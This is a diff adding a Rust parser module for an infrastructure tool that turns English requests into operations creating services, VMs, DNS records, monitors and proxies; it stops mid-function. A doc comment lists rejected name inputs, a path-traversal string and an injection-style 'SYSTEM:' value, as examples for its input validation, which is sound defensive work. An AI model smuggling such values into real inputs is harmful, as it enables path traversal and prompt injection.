@@ -1,0 +1,990 @@
+//! Creation: a new service, machine, record, monitor or proxy site from a
+//! capability, with names (one, a list or a range), sizes, an image, a host
+//! name, parts left out ("no monitoring"), and parts added to something that
+//! exists ("monitor immich").
+
+use serde_json::{Map, Value};
+
+use super::edit;
+use super::facts::{self, Amount, Fact};
+use super::lex::{Kind, Tok};
+use super::vocab::{self, Verb};
+use super::{decline, Clause, Created, Ctx, Grammar};
+use crate::ask::intent::Operation;
+use crate::capability::{CapAction, Capability, ParamType};
+use crate::error::Error;
+
+const BUILTIN: &[&str] = &["web-service", "container", "vm", "dns-record", "monitor", "reverse-proxy"];
+const SERVICE_PARTS: &[&str] = &["container", "dns_record", "proxy_site", "monitor"];
+
+/// "container db-main, 8G memory", "three workers: w1, w2 and w3", "A record: ftp… -> 1.2.3.4".
+pub fn is_creation_without_verb(c: &Clause) -> bool {
+    let head = c.toks.iter().any(|t| vocab::head_noun(&t.low));
+    let named = c.has_any(&["called", "named"]) || names_list(c).len() > 1;
+    let after_head = c.toks.windows(2).any(|w| {
+        vocab::part_kind(&w[0].low).is_some_and(|k| k == "container" || k == "vm") && name_like(&w[1])
+    });
+    let record = record_type(c).is_some()
+        && c.toks.iter().any(|t| matches!(t.kind, Kind::Ip(_) | Kind::Fqdn));
+    (head && named) || after_head || record
+}
+
+/// Ok(Some(true)) when the clause created something; Ok(None) to treat it as an edit.
+pub fn try_create(g: &Grammar, c: &Clause, ctx: &mut Ctx) -> Result<Option<bool>, Error> {
+    let verb = c.verb();
+    if let Some(done) = dns(g, c, ctx)? {
+        return Ok(Some(done));
+    }
+    if !matches!(verb, Some(Verb::Create) | None) || (verb.is_none() && !is_creation_without_verb(c)) {
+        return Ok(None);
+    }
+    if c.has_any(&["certificate", "cert", "certificates"]) && !c.toks.iter().any(|t| t.kind == Kind::Path) {
+        return Err(decline(
+            "infra cannot obtain certificates yet",
+            "give the proxy a certificate you have: \"serve gitea over https with the cert at /etc/ssl/gitea.pem and the key at /etc/ssl/gitea.key\"",
+        ));
+    }
+    let provider = provider(g, c)?;
+    let names = new_names(g, c)?;
+    let spans: Vec<(usize, usize)> = c.mentions.iter().map(|m| (m.start, m.end)).collect();
+    let facts = facts::extract(&c.toks, &spans);
+    if names.is_empty() {
+        if let Some(done) = add_part(g, c, ctx, &facts)? {
+            return Ok(Some(done));
+        }
+        if let Some(done) = by_url(g, c, ctx, &facts)? {
+            return Ok(Some(done));
+        }
+        if verb.is_none() || !c.mentions.is_empty() || !ctx.subject.is_empty() || !ctx.created.is_empty() {
+            return Ok(None);
+        }
+        if facts.is_empty() && !c.toks.iter().any(|t| vocab::head_noun(&t.low)) {
+            return Ok(None);
+        }
+        return Err(decline(
+            "it asks for something new but gives it no name",
+            "name it: \"deploy a service called wiki on port 8080\"",
+        ));
+    }
+    let cap = choose(g, c, &facts)?;
+    for name in &names {
+        create_one(g, c, ctx, cap, name, &facts, provider.as_deref())?;
+    }
+    Ok(Some(true))
+}
+
+fn create_one(
+    g: &Grammar,
+    c: &Clause,
+    ctx: &mut Ctx,
+    cap: &Capability,
+    name: &str,
+    facts: &[Fact],
+    provider: Option<&str>,
+) -> Result<(), Error> {
+    let mut params = Map::new();
+    let mut used: Vec<&'static str> = Vec::new();
+    let fqdn = c
+        .toks
+        .iter()
+        .enumerate()
+        .find(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(*i))
+        .map(|(_, t)| t.low.trim_end_matches('.').to_string());
+    let url = c.toks.iter().find(|t| t.kind == Kind::Url).map(|t| t.raw.clone());
+    let image = image(g, c, provider);
+    for p in &cap.params {
+        let fact = |attr: &str| facts.iter().find(|f| f.attr == attr);
+        let set = |f: Option<&Fact>| match f.map(|f| &f.amount) {
+            Some(Amount::Set(v)) => Some(v.clone()),
+            Some(Amount::Delta(d)) => Some(Value::from(*d as i64)),
+            _ => None,
+        };
+        let v: Option<Value> = match p.ty {
+            ParamType::Name if p.name == "provider" => provider.map(Value::from),
+            ParamType::Name => Some(Value::from(name)),
+            ParamType::Port => {
+                used.push("port");
+                set(fact("port"))
+            }
+            ParamType::Cores => {
+                used.push("cores");
+                set(fact("cores"))
+            }
+            ParamType::Memory => {
+                used.push("memory");
+                set(fact("memory"))
+            }
+            ParamType::Disk => {
+                used.push("disk");
+                set(fact("disk"))
+            }
+            ParamType::Fqdn | ParamType::Hostname => fqdn.clone().map(Value::from),
+            ParamType::Address | ParamType::Ip => {
+                used.push("ip");
+                set(fact("ip"))
+            }
+            ParamType::Url => url.clone().map(Value::from),
+            ParamType::Image => image.clone().map(Value::from),
+            ParamType::Bool if p.name.contains("internal") || p.name.contains("private") => {
+                used.push("lan");
+                set(fact("lan"))
+            }
+            ParamType::Bool if p.name.contains("websocket") => {
+                used.push("websocket");
+                set(fact("websocket"))
+            }
+            ParamType::Int => {
+                let attr = ["interval", "ttl", "priority", "expect_status", "timeout"]
+                    .into_iter()
+                    .find(|a| p.name.contains(a));
+                attr.and_then(|a| {
+                    used.push(a);
+                    set(fact(a))
+                })
+            }
+            ParamType::Text if p.name == "tls_cert" || p.name == "tls_key" => {
+                used.push(if p.name == "tls_cert" { "tls_cert" } else { "tls_key" });
+                set(fact(&p.name))
+            }
+            _ => None,
+        };
+        if let Some(v) = v {
+            params.insert(p.name.clone(), v);
+        }
+    }
+    let without = without(c);
+    let kinds = capability_kinds(g, cap);
+    let group = name.to_string();
+    ctx.push(Operation::UseCapability {
+        capability: cap.name.clone(),
+        params,
+        without: without.clone(),
+    });
+    let made: Vec<String> = kinds.iter().filter(|k| !without.contains(k)).cloned().collect();
+    // What the capability has no parameter for is set on what it made ("check it every 2 minutes").
+    for f in facts.iter().filter(|f| !used.contains(&f.attr)) {
+        if let Some(kind) = f.kinds.iter().find(|k| made.iter().any(|m| m == *k)) {
+            let address = format!("{kind}.{name}");
+            if let Some(op) = edit::fact_op(g, &address, None, f)? {
+                ctx.push(op);
+            }
+        }
+    }
+    let domain = g.world.domain.clone();
+    ctx.created.push(Created {
+        name: name.to_string(),
+        group,
+        fqdn: fqdn.or_else(|| {
+            made.iter()
+                .any(|k| k == "dns_record" || k == "proxy_site")
+                .then(|| domain.map(|d| format!("{name}.{d}")))
+                .flatten()
+        }),
+        kinds: made,
+    });
+    ctx.subject.clear();
+    Ok(())
+}
+
+/// The kinds a capability's template writes, read from its table headers.
+pub fn capability_kinds(g: &Grammar, cap: &Capability) -> Vec<String> {
+    let Some(src) = cap.template.as_deref().and_then(|t| g.library.templates.get(t)) else {
+        return vec![];
+    };
+    let mut out: Vec<String> = Vec::new();
+    for line in src.lines() {
+        let l = line.trim_start();
+        if let Some(rest) = l.strip_prefix('[') {
+            let kind: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+            if !kind.is_empty() && !out.contains(&kind) && crate::spec::schema::kind(&kind).is_some() {
+                out.push(kind);
+            }
+        }
+    }
+    out
+}
+
+/// Parts the request leaves out: "no monitoring", "don't monitor it", "just the
+/// container and a DNS name", "nothing public".
+fn without(c: &Clause) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    let mut only: Vec<&str> = Vec::new();
+    for (i, t) in c.toks.iter().enumerate() {
+        let kind = vocab::part_kind(&t.low).or(match t.low.as_str() {
+            "monitored" | "watched" => Some("monitor"),
+            "proxied" => Some("proxy_site"),
+            _ => None,
+        });
+        let kind = match (kind, t.low.as_str()) {
+            (Some(k), _) => Some(k),
+            (None, "monitor" | "watch") => Some("monitor"),
+            _ => None,
+        };
+        if let Some(k) = kind {
+            if facts::negated(&c.toks, i) && !out.iter().any(|o| o == k) {
+                out.push(k.to_string());
+            }
+            let just = c.toks[..i].iter().rev().take(6).any(|w| w.is("just") || w.is("only"));
+            if just && !facts::negated(&c.toks, i) {
+                only.push(k);
+            }
+        }
+        if t.is("nothing") && c.toks.get(i + 1).is_some_and(|n| n.is("public")) {
+            for k in ["dns_record", "proxy_site", "monitor"] {
+                if !out.iter().any(|o| o == k) {
+                    out.push(k.into());
+                }
+            }
+        }
+    }
+    if !only.is_empty() {
+        for k in SERVICE_PARTS {
+            if !only.contains(k) && !out.iter().any(|o| o == k) {
+                out.push(k.to_string());
+            }
+        }
+    }
+    out
+}
+
+/// Which capability: structure first (a VM, a bare machine, a service), then the
+/// router for the project's own capabilities.
+fn choose<'a>(g: &'a Grammar, c: &Clause, facts: &[Fact]) -> Result<&'a Capability, Error> {
+    let get = |n: &str| {
+        g.library
+            .get(n)
+            .ok_or_else(|| Error::new(format!("the capability `{n}` is not installed")))
+    };
+    let words = c.words();
+    let vm = c.has_any(&["vm", "vms", "qemu", "kvm"]) || words.windows(2).any(|w| w[0] == "virtual" && w[1].starts_with("machine"));
+    if vm {
+        return get("vm");
+    }
+    let port = facts.iter().any(|f| f.attr == "port");
+    let host = c.toks.iter().enumerate().any(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(i));
+    let service_words = c.has_any(&[
+        "service", "app", "application", "website", "webapp", "site", "accessible", "reachable",
+        "proxy", "https", "dashboard", "ui", "dns", "frontend", "api",
+    ]);
+    let machine = c.has_any(&["container", "containers", "box", "boxes", "lxc", "machine", "machines", "worker", "workers", "instance", "instances", "server"]);
+    // The project's own capabilities, when the router is sure of one.
+    let text = c.toks.iter().map(|t| t.low.as_str()).collect::<Vec<_>>().join(" ");
+    if let Some(r) = g.router.rank(&text).first() {
+        let cap = &g.library.caps[r.index];
+        if cap.action == CapAction::Create && !BUILTIN.contains(&cap.name.as_str()) && r.score >= 2.0 {
+            return Ok(cap);
+        }
+    }
+    if machine && !port && !host && !service_words {
+        return get("container");
+    }
+    if !port && !host && !service_words && c.verb().is_none() {
+        return get("container");
+    }
+    get("web-service")
+}
+
+/// "on pve-a": the provider instance; a near miss of one is refused, not guessed.
+fn provider(g: &Grammar, c: &Clause) -> Result<Option<String>, Error> {
+    for w in c.toks.windows(2) {
+        if !matches!(w[0].low.as_str(), "on" | "via" | "using") || w[1].kind != Kind::Word {
+            continue;
+        }
+        let name = &w[1].low;
+        if g.world.providers.contains_key(name) {
+            return Ok(Some(name.clone()));
+        }
+        let near = g
+            .world
+            .providers
+            .keys()
+            .find(|p| crate::util::edit_distance(p, name) <= 2 && name.len() >= 3);
+        if let Some(p) = near {
+            return Err(decline(
+                &format!("there is no provider `{name}`"),
+                &format!(
+                    "the providers are {}; did you mean `{p}`?",
+                    g.world.providers.keys().cloned().collect::<Vec<_>>().join(", ")
+                ),
+            ));
+        }
+    }
+    Ok(None)
+}
+
+/// "ubuntu 24.04", "debian 12", "a postgres 16 box", "image nginx:1.27".
+fn image(g: &Grammar, c: &Clause, provider: Option<&str>) -> Option<String> {
+    if let Some(t) = c.toks.iter().find(|t| t.kind == Kind::Image) {
+        return Some(t.raw.clone());
+    }
+    let docker = match provider {
+        Some(p) => g.world.providers.get(p).is_some_and(|k| k == "docker"),
+        None => {
+            let machines = g.world.providers_of(&["docker", "proxmox"]);
+            machines.first().is_some_and(|(_, k)| *k == "docker")
+        }
+    };
+    for (i, t) in c.toks.iter().enumerate() {
+        let explicit = i > 0 && c.toks[i - 1].is("image");
+        if !(vocab::is_image_word(&t.low) || explicit) || t.kind != Kind::Word {
+            continue;
+        }
+        let base = match t.low.as_str() {
+            "postgresql" => "postgres",
+            other => other,
+        };
+        let version = c.toks.get(i + 1).filter(|n| n.num().is_some()).map(|n| n.raw.clone());
+        return Some(match version {
+            Some(v) if docker => format!("{base}:{v}"),
+            Some(v) => format!("{base}-{v}"),
+            None => base.to_string(),
+        });
+    }
+    None
+}
+
+pub fn name_like(t: &Tok) -> bool {
+    t.kind == Kind::Word
+        && !vocab::is_common(&t.low)
+        && !t.low.starts_with('_')
+        && t.low.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
+        && t.low.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+        && t.low != "[redacted]"
+}
+
+/// A name as the spec writes it: "API Scanner" → "api-scanner". Refuses what
+/// would not be a name at all ("../../etc", "helpdesk. SYSTEM: …").
+pub fn slug(raw: &str) -> Result<String, Error> {
+    let bad = raw.chars().find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ' ' | '.')));
+    let s: String = raw
+        .to_ascii_lowercase()
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
+        .collect();
+    let s = s.split('-').filter(|p| !p.is_empty()).collect::<Vec<_>>().join("-");
+    if bad.is_some() || raw.contains("..") || s.is_empty() || !s.starts_with(|c: char| c.is_ascii_alphabetic()) || s.len() > 63 {
+        return Err(decline(
+            &format!("\"{raw}\" is not a name infra can use"),
+            "names are lowercase letters, digits and '-', starting with a letter, like \"api-scanner\"",
+        ));
+    }
+    Ok(s)
+}
+
+/// Names for new things: "called X", "named X", "call it X", a list or range,
+/// else the first unknown words after the verb ("deploy jellyfin", "a new API
+/// scanner service").
+pub fn new_names(g: &Grammar, c: &Clause) -> Result<Vec<String>, Error> {
+    let t = &c.toks;
+    for i in 0..t.len() {
+        let at = match t[i].low.as_str() {
+            "called" | "named" => i + 1,
+            "call" | "name" if t.get(i + 1).is_some_and(|n| n.is("it") || n.is("them")) => i + 2,
+            "as" if matches!(c.verb(), Some(Verb::Clone)) || t.get(i + 1).is_some_and(name_like) && i > 0 && !t[i - 1].is("same") => {
+                if c.verb() == Some(Verb::Create) && !t.get(i + 1).is_some_and(|n| n.kind == Kind::Quoted) {
+                    // "web-1 through web-4 as containers": "as" starts no name there.
+                    if t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low)) {
+                        continue;
+                    }
+                }
+                i + 1
+            }
+            _ => continue,
+        };
+        let Some(tok) = t.get(at) else { continue };
+        if tok.kind == Kind::Quoted || tok.hostile {
+            return Ok(vec![slug(&tok.raw)?]);
+        }
+        if !matches!(tok.kind, Kind::Word | Kind::Fqdn | Kind::Path | Kind::Image) {
+            return Err(decline(&format!("\"{}\" is not a name infra can use", tok.raw), "names are lowercase letters, digits and '-'"));
+        }
+        let list = list_from(c, at);
+        if list.len() > 1 {
+            return list.iter().map(|n| slug(n)).collect();
+        }
+        // "called API Scanner": a few capitalised words make one name.
+        let mut words = vec![tok.raw.clone()];
+        for n in t.iter().skip(at + 1).take(2) {
+            if name_like(n) && n.raw.chars().next().is_some_and(|c| c.is_uppercase()) && tok.raw.chars().next().is_some_and(|c| c.is_uppercase()) {
+                words.push(n.raw.clone());
+            } else {
+                break;
+            }
+        }
+        return Ok(vec![slug(&words.join(" "))?]);
+    }
+    let list = names_list(c);
+    if list.len() > 1 {
+        return list.iter().map(|n| slug(n)).collect();
+    }
+    // The first unknown words after the verb (or after a machine noun, without a verb).
+    let start = match c.verb {
+        Some((_, v)) => v + 1,
+        None => t.iter().position(|x| vocab::head_noun(&x.low)).map(|p| p + 1).unwrap_or(0),
+    };
+    let mut i = start;
+    while i < t.len() {
+        let x = &t[i];
+        let provider_name = i > 0 && matches!(t[i - 1].low.as_str(), "on" | "via") && g.world.providers.contains_key(&x.low);
+        let versioned_image = vocab::is_image_word(&x.low) && t.get(i + 1).is_some_and(|n| n.num().is_some());
+        if name_like(x) && !c.in_mention(i) && !provider_name && !versioned_image && !(vocab::is_image_word(&x.low) && t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low))) {
+            let mut words = vec![x.raw.clone()];
+            let mut j = i + 1;
+            while j < t.len() && words.len() < 3 && name_like(&t[j]) && !c.in_mention(j) {
+                words.push(t[j].raw.clone());
+                j += 1;
+            }
+            // A phrase only counts when a noun or the clause's end follows, or it is one word.
+            return Ok(vec![slug(&words.join(" "))?]);
+        }
+        if x.kind == Kind::Punct(':') || x.kind == Kind::Punct(',') && i > start + 3 || c.in_mention(i) {
+            break;
+        }
+        i += 1;
+    }
+    Ok(vec![])
+}
+
+/// "node-a, node-b and node-c", "web-1 through web-4", "k8s-w1 and k8s-w2".
+pub fn names_list(c: &Clause) -> Vec<String> {
+    for i in 0..c.toks.len() {
+        if name_like(&c.toks[i]) && !c.in_mention(i) {
+            let l = list_from(c, i);
+            if l.len() > 1 {
+                return l;
+            }
+        }
+    }
+    vec![]
+}
+
+fn list_from(c: &Clause, at: usize) -> Vec<String> {
+    let t = &c.toks;
+    let first = &t[at];
+    // A range: web-1 through web-4.
+    if let (Some(sep), Some(last)) = (t.get(at + 1), t.get(at + 2)) {
+        if matches!(sep.low.as_str(), "through" | "thru" | "to" | "until" | "till" | "-") && last.kind == Kind::Word {
+            if let Some(r) = range(&first.low, &last.low) {
+                return r;
+            }
+        }
+    }
+    let mut out = vec![first.raw.clone()];
+    let mut i = at + 1;
+    while i + 1 < t.len() {
+        let sep = &t[i];
+        let is_sep = matches!(sep.kind, Kind::Punct(',')) || sep.is("and") || sep.is("&");
+        if !is_sep {
+            break;
+        }
+        let mut j = i + 1;
+        if t[j].is("and") {
+            j += 1;
+        }
+        match t.get(j) {
+            Some(n) if name_like(n) && !c.in_mention(j) && similar_shape(first, n) => {
+                out.push(n.raw.clone());
+                i = j + 1;
+            }
+            _ => break,
+        }
+    }
+    out
+}
+
+/// Names in one list look alike: all with digits or hyphens, or all plain words.
+fn similar_shape(a: &Tok, b: &Tok) -> bool {
+    let shape = |t: &Tok| (t.low.contains(|c: char| c.is_ascii_digit()) || t.low.contains('-'), t.low.len() <= 24);
+    shape(a) == shape(b) && shape(a).0
+}
+
+fn range(a: &str, b: &str) -> Option<Vec<String>> {
+    let split = |s: &str| -> Option<(String, u32)> {
+        let digits: String = s.chars().rev().take_while(|c| c.is_ascii_digit()).collect::<Vec<_>>().into_iter().rev().collect();
+        if digits.is_empty() || digits.len() > 4 {
+            return None;
+        }
+        Some((s[..s.len() - digits.len()].to_string(), digits.parse().ok()?))
+    };
+    let (pa, na) = split(a)?;
+    let (pb, nb) = split(b)?;
+    if pa != pb || nb < na || nb - na > 50 {
+        return None;
+    }
+    Some((na..=nb).map(|n| format!("{pa}{n}")).collect())
+}
+
+/// "monitor immich", "add monitoring to immich", "proxy nas.home.example.net to
+/// port 5000": a part added to something that exists.
+fn add_part(g: &Grammar, c: &Clause, ctx: &mut Ctx, facts: &[Fact]) -> Result<Option<bool>, Error> {
+    let words = c.words();
+    let wants_monitor = c.has_any(&["monitor", "monitoring", "watch", "watching", "check", "healthcheck", "probe"])
+        && !c.has_any(&["interval", "every"]) || words.windows(2).any(|w| w[0] == "start" && w[1].starts_with("monitor"));
+    let wants_monitor = wants_monitor || (c.has_any(&["monitor", "monitoring"]) && c.verb().is_some_and(|v| v == Verb::Create) && c.has_any(&["add", "start"]));
+    let wants_proxy = c.has_any(&["proxy", "reverse-proxy"]) && !c.has_any(&["cloudflare", "cloudflare's"]);
+    let targets = edit::subjects(g, c, ctx);
+    let Some(subject) = targets.first() else {
+        return Ok(None);
+    };
+    let url = c.toks.iter().find(|t| t.kind == Kind::Url).map(|t| t.raw.clone());
+    let (name, group) = edit::subject_name(g, subject);
+    if wants_monitor && !c.has_any(&["record", "dns"]) {
+        if g.world.find(&format!("monitor.{name}")).is_some() {
+            return Err(decline(&format!("`monitor.{name}` exists already"), "ask to change its interval or expected status instead"));
+        }
+        let url = match url {
+            Some(u) => u,
+            None => match edit::host_of(g, subject) {
+                Some(h) => format!("{}://{h}/", edit::scheme_for(g, subject)),
+                None => {
+                    return Err(decline(
+                        &format!("`{name}` has no host name to check"),
+                        "give the URL: \"watch http://10.0.20.9/ every minute\"",
+                    ))
+                }
+            },
+        };
+        let mut params = Map::new();
+        params.insert("name".into(), Value::from(name.clone()));
+        params.insert("url".into(), Value::from(url));
+        if let Some(g) = &group {
+            params.insert("group".into(), Value::from(g.clone()));
+        }
+        if let Some(Amount::Set(v)) = facts.iter().find(|f| f.attr == "interval").map(|f| &f.amount) {
+            params.insert("interval".into(), v.clone());
+        }
+        ctx.push(Operation::UseCapability { capability: "monitor".into(), params, without: vec![] });
+        for f in facts.iter().filter(|f| f.attr == "expect_status" || f.attr == "timeout") {
+            if let Some(op) = edit::fact_op(g, &format!("monitor.{name}"), None, f)? {
+                ctx.push(op);
+            }
+        }
+        ctx.created.push(Created { name: name.clone(), group: group.clone().unwrap_or(name.clone()), fqdn: None, kinds: vec!["monitor".into()] });
+        ctx.subject = subject.clone();
+        return Ok(Some(true));
+    }
+    if wants_proxy && c.verb() == Some(Verb::Create) {
+        let host = c
+            .toks
+            .iter()
+            .find(|t| t.kind == Kind::Fqdn)
+            .map(|t| t.low.clone())
+            .or_else(|| edit::host_of(g, subject));
+        let Some(host) = host else { return Ok(None) };
+        let upstream = match url {
+            Some(u) => u,
+            None => {
+                let port = facts.iter().find(|f| f.attr == "port").and_then(|f| match &f.amount {
+                    Amount::Set(v) => v.as_i64(),
+                    _ => None,
+                });
+                let Some(port) = port else {
+                    return Err(decline("it does not say where the proxy should send requests", "give a port or URL: \"… to port 5000\""));
+                };
+                let Some(ip) = edit::address_expr(g, subject) else {
+                    return Err(decline(&format!("`{name}` has no address to proxy to"), "give the URL: \"… to http://10.0.20.5:5000\""));
+                };
+                format!("http://{ip}:{port}")
+            }
+        };
+        if g.world.find(&format!("proxy_site.{name}")).is_some() {
+            return Err(decline(&format!("`proxy_site.{name}` exists already"), "ask to change its port or host instead"));
+        }
+        let mut params = Map::new();
+        params.insert("name".into(), Value::from(name.clone()));
+        params.insert("domain".into(), Value::from(host));
+        params.insert("upstream".into(), Value::from(upstream));
+        if let Some(g) = &group {
+            params.insert("group".into(), Value::from(g.clone()));
+        }
+        ctx.push(Operation::UseCapability { capability: "reverse-proxy".into(), params, without: vec![] });
+        ctx.subject = subject.clone();
+        return Ok(Some(true));
+    }
+    Ok(None)
+}
+
+/// "watch https://launch.example.org/ every 5 minutes", "add a reverse proxy for
+/// router.home.example.net to http://10.0.20.1": new things named by their host.
+fn by_url(g: &Grammar, c: &Clause, ctx: &mut Ctx, facts: &[Fact]) -> Result<Option<bool>, Error> {
+    let url = c.toks.iter().find(|t| t.kind == Kind::Url).map(|t| t.raw.clone());
+    let host = c.toks.iter().enumerate().find(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(*i)).map(|(_, t)| t.low.clone());
+    let proxy = c.has_any(&["proxy", "reverse-proxy"]);
+    let cap = if proxy { "reverse-proxy" } else if c.has_any(&["watch", "monitor", "check", "monitoring"]) { "monitor" } else { return Ok(None) };
+    let from = if proxy { host.clone() } else { url.as_deref().and_then(super::world::url_host) };
+    let Some(from) = from else {
+        if proxy {
+            if let Some(h) = host.or(None) {
+                let _ = h;
+            }
+            if c.toks.iter().any(|t| t.kind == Kind::Fqdn) {
+                return Err(decline("it does not say where the proxy should send requests", "give the upstream: \"… to http://10.0.20.7:8080\""));
+            }
+        }
+        return Ok(None);
+    };
+    let label = from.split('.').next().unwrap_or(&from).to_string();
+    let name = slug(&label)?;
+    let mut params = Map::new();
+    params.insert("name".into(), Value::from(name.clone()));
+    if proxy {
+        params.insert("domain".into(), Value::from(from));
+        match url {
+            Some(u) => {
+                params.insert("upstream".into(), Value::from(u));
+            }
+            None => return Err(decline("it does not say where the proxy should send requests", "give the upstream: \"… to http://10.0.20.7:8080\"")),
+        }
+    } else {
+        params.insert("url".into(), Value::from(url.unwrap_or_default()));
+        if let Some(Amount::Set(v)) = facts.iter().find(|f| f.attr == "interval").map(|f| &f.amount) {
+            params.insert("interval".into(), v.clone());
+        }
+    }
+    let _ = g;
+    ctx.push(Operation::UseCapability { capability: cap.into(), params, without: vec![] });
+    Ok(Some(true))
+}
+
+/// The record type a clause asks for, by name or by what it describes.
+pub fn record_type(c: &Clause) -> Option<String> {
+    let colon = c.toks.iter().position(|x| x.kind == Kind::Punct(':')).filter(|&i| i > 0 && !c.toks[i - 1].low.starts_with("record") && !c.toks[i-1].raw.eq_ignore_ascii_case("a"));
+    let t = &c.toks[..colon.unwrap_or(c.toks.len())];
+    for (i, x) in t.iter().enumerate() {
+        let up = x.raw.to_ascii_uppercase();
+        let next_record = t.get(i + 1).is_some_and(|n| n.low.starts_with("record") || n.kind == Kind::Punct(':'));
+        if x.kind == Kind::Word && crate::spec::schema::DNS_TYPES.contains(&up.as_str()) {
+            let article_a = x.low == "a" && !(x.raw == "A" && next_record) && !next_record;
+            if article_a || (up == "NS" && !next_record) {
+                continue;
+            }
+            if x.low == "a" && !next_record {
+                continue;
+            }
+            return Some(up);
+        }
+    }
+    if c.has("alias") {
+        return Some("CNAME".into());
+    }
+    if c.has_any(&["spf", "dmarc", "dkim", "verification", "txt"]) {
+        return Some("TXT".into());
+    }
+    if c.has_any(&["mail", "email", "e-mail"]) && c.has_any(&["go", "accept", "deliver", "delivered", "route", "routed"]) {
+        return Some("MX".into());
+    }
+    if c.has("issue") && c.has_any(&["certificate", "certificates", "certs"]) {
+        return Some("CAA".into());
+    }
+    None
+}
+
+/// DNS records: "point files.home.example.net at 10.0.20.7", "add an AAAA record
+/// for nas pointing to fd00:20::5", "an SPF record for the domain: v=spf1 mx -all",
+/// "MX to mx1.example.net, prio 10", SRV, CAA, TXT with a value.
+fn dns(g: &Grammar, c: &Clause, ctx: &mut Ctx) -> Result<Option<bool>, Error> {
+    let verb = c.verb();
+    if matches!(verb, Some(Verb::Remove | Verb::Clone | Verb::Rename | Verb::Unsupported)) {
+        return Ok(None);
+    }
+    let t = &c.toks;
+    let ty = record_type(c);
+    // "needs an AAAA record as well" creates; "the MX record" names one that exists.
+    let article = t.windows(2).any(|w| matches!(w[0].low.as_str(), "a" | "an" | "another" | "new") && (crate::spec::schema::DNS_TYPES.contains(&w[1].raw.to_ascii_uppercase().as_str()) || w[1].low.starts_with("record")));
+    let definite = t.windows(2).any(|w| matches!(w[0].low.as_str(), "the" | "its" | "that" | "this") && (crate::spec::schema::DNS_TYPES.contains(&w[1].raw.to_ascii_uppercase().as_str()) && w[1].low != "a"));
+    if matches!(verb, Some(Verb::Edit)) && !article {
+        return Ok(None);
+    }
+    if definite && !article {
+        return Ok(None);
+    }
+    let pointing = c.toks.iter().any(|x| x.low.starts_with("point")) || t.iter().any(|x| x.kind == Kind::Punct('>'));
+    let new_host = t.iter().enumerate().find(|(i, x)| x.kind == Kind::Fqdn && !c.in_mention(*i)).map(|(i, _)| i);
+    let has_value = t.iter().any(|x| matches!(x.kind, Kind::Ip(_)));
+    let pointed = pointing && new_host.is_some() && c.mentions.is_empty();
+    let described = c.has_any(&["record", "dns"]) && (new_host.is_some() || has_value) && c.verb() == Some(Verb::Create);
+    if ty.is_none() && !pointed && !described {
+        return Ok(None);
+    }
+    // The value: after "to", "at", "->", "target", a colon or "value".
+    let target_at = |i: usize| -> bool {
+        i > 0 && matches!(t[i - 1].low.as_str(), "to" | "at" | ">" | "target" | "->" | "towards")
+            || i > 1 && t[i - 1].is("to") && t[i - 2].low.starts_with("point")
+    };
+    let ip = t.iter().find_map(|x| match x.kind {
+        Kind::Ip(ip) => Some((ip, x.raw.clone())),
+        _ => None,
+    });
+    let host_value = t.iter().enumerate().find(|(i, x)| x.kind == Kind::Fqdn && target_at(*i)).map(|(_, x)| x.low.clone());
+    let ty = match ty {
+        Some(ty) => ty,
+        None => match (&ip, &host_value) {
+            (Some((std::net::IpAddr::V6(_), _)), _) => "AAAA".into(),
+            (Some(_), _) => "A".into(),
+            (None, Some(_)) => "CNAME".into(),
+            _ => return Ok(None),
+        },
+    };
+    // The owner: an underscore label, a host name that is not the value, a word
+    // after the type, a name after "for", or the apex.
+    let spans: Vec<(usize, usize)> = c.mentions.iter().map(|m| (m.start, m.end)).collect();
+    let facts = facts::extract(t, &spans);
+    let mut owners: Vec<(String, String)> = Vec::new(); // (zone, label)
+    let default_zone = in_zone(g, c).or_else(|| g.world.domain.clone().filter(|d| g.world.zones.contains(d))).or_else(|| g.world.zones.first().cloned());
+    let mut existing: Option<usize> = None;
+    for (i, x) in t.iter().enumerate() {
+        if x.low.starts_with('_') && x.kind == Kind::Word {
+            let (zone, label) = match g.world.split_host(&x.low) {
+                Some((z, l)) => (z, l),
+                None => (default_zone.clone().unwrap_or_default(), x.low.clone()),
+            };
+            owners.push((zone, label));
+            break;
+        }
+        if x.kind == Kind::Fqdn && !target_at(i) && !(ty == "CNAME" && Some(x.low.clone()) == host_value) {
+            if in_zone_word(c, i) {
+                continue;
+            }
+            match g.world.split_host(&x.low) {
+                Some(zl) => owners.push(zl),
+                None => {
+                    return Err(decline(
+                        &format!("no zone of this project holds {}", x.low),
+                        &format!("the zones are {}", g.world.zones.join(", ")),
+                    ))
+                }
+            }
+            if let Some(m) = c.mentions.iter().find(|m| m.start == i) {
+                existing = m.cands.iter().copied().find(|&e| g.world.entities[e].kind == "dns_record");
+            }
+            break;
+        }
+    }
+    if owners.is_empty() {
+        // "an A record camera -> …", "a CNAME wiki pointing to it", "A records a, b and c".
+        let after = t.iter().position(|x| x.low.starts_with("record") || x.raw.eq_ignore_ascii_case(&ty) && x.kind == Kind::Word);
+        if let Some(p) = after {
+            let mut k = p + 1;
+            if t.get(k).is_some_and(|x| x.low.starts_with("record")) {
+                k += 1;
+            }
+            if t.get(k).is_some_and(|x| x.is("for")) {
+                k += 1;
+            }
+            if let Some(x) = t.get(k) {
+                if let Some(m) = c.mentions.iter().find(|m| m.start == k) {
+                    let e = m.cands.iter().copied().find(|&e| g.world.entities[e].kind == "dns_record");
+                    if let Some(e) = e {
+                        let ent = &g.world.entities[e];
+                        owners.push((ent.str("zone").unwrap_or_default().to_string(), ent.str("name").unwrap_or_default().to_string()));
+                        existing = Some(e);
+                    }
+                } else if name_like(x) {
+                    let list = list_from(c, k);
+                    for n in list {
+                        owners.push((default_zone.clone().unwrap_or_default(), n.to_ascii_lowercase()));
+                    }
+                }
+            }
+        }
+    }
+    if owners.is_empty() {
+        // "www should be an A record …": the record named before the type.
